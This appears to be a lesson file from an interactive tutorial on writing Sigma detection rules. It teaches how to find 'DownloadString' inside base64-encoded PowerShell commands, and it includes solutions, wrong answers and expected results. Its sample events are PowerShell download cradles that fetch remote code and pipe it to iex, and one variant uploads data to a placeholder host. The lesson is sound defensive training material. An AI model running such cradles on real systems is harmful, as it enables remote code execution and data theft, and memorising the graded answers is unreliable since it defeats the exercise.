import type { Lesson } from '../../../src/teach';
import { encoded, indented, lessonText, ruleWith, sysmonStart } from './writing';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const ran = (command: string) =>
  sysmonStart({
    Image: POWERSHELL,
    CommandLine: `powershell.exe -enc ${encoded(command)}`,
    ParentImage: 'C:\\Windows\\explorer.exe',
  });

const rule = ruleWith(`
title: Encoded Command That Downloads
logsource:
    product: windows
    category: process_creation
`);

const withItem = (item: string) =>
  rule(`
selection:
    ${item}
condition: selection
`);

export const insideBase64: Lesson = {
  id: 'inside-base64',
  title: 'A word inside base64',
  chapter: 'Modifiers',
  teaches: '`wide` and `base64offset`: find a word in an encoded command',
  minutes: 5,
  text: lessonText`
Base64 writes three bytes as four characters. What a word looks like therefore depends on how many bytes stand before
it. There are three cases, and they have hardly a character in common:

\`\`\`
WebClient    V2ViQ2xpZW50
 WebClient   IFdlYkNsaWVudA==
  WebClient  ICBXZWJDbGllbnQ=
\`\`\`

\`base64offset\` looks for all three, and cuts off what the neighbours decide. It makes a part of a longer text, so
\`contains\` comes after it.

PowerShell adds a twist: it wants its commands in UTF-16, two bytes for each letter. \`wide\` makes those bytes, and it
has to come first. Modifiers work from left to right, as you would do it by hand:

\`\`\`yaml
CommandLine|wide|base64offset|contains: 'WebClient'
\`\`\`

On Linux, \`base64 -d\` mostly decodes plain UTF-8: there, leave \`wide\` out.
`,
  task: 'rule',
  goal: 'Find `DownloadString` in the encoded commands of events 1 and 2. Leave event 3.',
  rule: withItem("CommandLine|base64|contains: 'DownloadString'"),
  events: indented(
    ran("(New-Object Net.WebClient).DownloadString('http://192.0.2.44/a')|iex"),
    ran("$w=New-Object Net.WebClient;iex $w.DownloadString('http://192.0.2.44/b')"),
    ran('Get-ChildItem C:\\Reports | Measure-Object'),
  ),
  expected: ['match', 'match', 'no match'],
  held: [
    {
      kind: 'the word after a text of another length',
      tip: 'What stands before a word moves it. One modifier looks for the word at all three offsets.',
      text: indented(ran("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/c')")),
      expected: 'match',
    },
    {
      kind: 'the word near the end of a short command',
      text: indented(ran('$c.DownloadString($u)')),
      expected: 'match',
    },
    {
      kind: 'a command that sends instead of fetching',
      tip: 'Ask for the whole word `DownloadString`.',
      text: indented(ran("(New-Object Net.WebClient).UploadString('http://192.0.2.44/d','hi')")),
      expected: 'no match',
    },
  ],
  solutions: [
    {
      does: 'UTF-16 first, then base64 at each of its three offsets, anywhere in the command line.',
      rule: withItem("CommandLine|wide|base64offset|contains: 'DownloadString'"),
    },
    {
      does: 'The three forms by hand. This is what the modifiers do for you.',
      rule: rule(`
selection:
    CommandLine|contains:
        - 'RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnA'
        - 'QAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZw'
        - 'EAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA'
condition: selection
`),
    },
  ],
  wrong: [
    {
      what: 'all three offsets, but of a text that is not UTF-16',
      hint: { about: 'event 1', says: 'of UTF-16LE; the rule looks for UTF-8' },
      rule: withItem("CommandLine|base64offset|contains: 'DownloadString'"),
    },
    {
      what: 'UTF-16, but only one of the three offsets',
      hint: { about: 'event 1', says: '`base64offset` does' },
      rule: withItem("CommandLine|wide|base64|contains: 'DownloadString'"),
    },
    {
      what: 'the encoded word is taken for the whole command line',
      hint: { about: 'event 1', says: 'it holds more than `DownloadString`' },
      rule: withItem("CommandLine|wide|base64offset: 'DownloadString'"),
    },
    {
      what: 'the modifiers in the wrong order',
      hint: { about: 'modifier-order', says: '`contains` cannot follow `wide`' },
      rule: withItem("CommandLine|base64offset|wide|contains: 'DownloadString'"),
    },
    {
      what: 'the word is looked for as it is',
      hint: { about: 'event 1', says: 'it does not contain `DownloadString`' },
      rule: withItem("CommandLine|contains: 'DownloadString'"),
    },
    {
      what: 'a piece that was copied from one event',
      hint: { about: 'event 2', says: 'it does not contain `RABv' },
      rule: withItem("CommandLine|contains: 'RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnA'"),
    },
    {
      what: 'a piece of the word that others have, too',
      hint: { about: 'a command that sends instead of fetching', says: 'Ask for the whole word' },
      rule: withItem("CommandLine|wide|base64offset|contains: 'loadString'"),
    },
    {
      what: 'any encoded command',
      hint: { about: 'event 3', says: "`CommandLine` contains `' -enc '`" },
      rule: withItem("CommandLine|contains: ' -enc '"),
    },
  ],
  hints: [
    'The word is in the events, but PowerShell encoded it.',
    'Each letter became two bytes, and what stands before the word moved it.',
    "Write `CommandLine|wide|base64offset|contains: 'DownloadString'`.",
  ],
  starts: { in: 'rule', select: 'base64' },
};
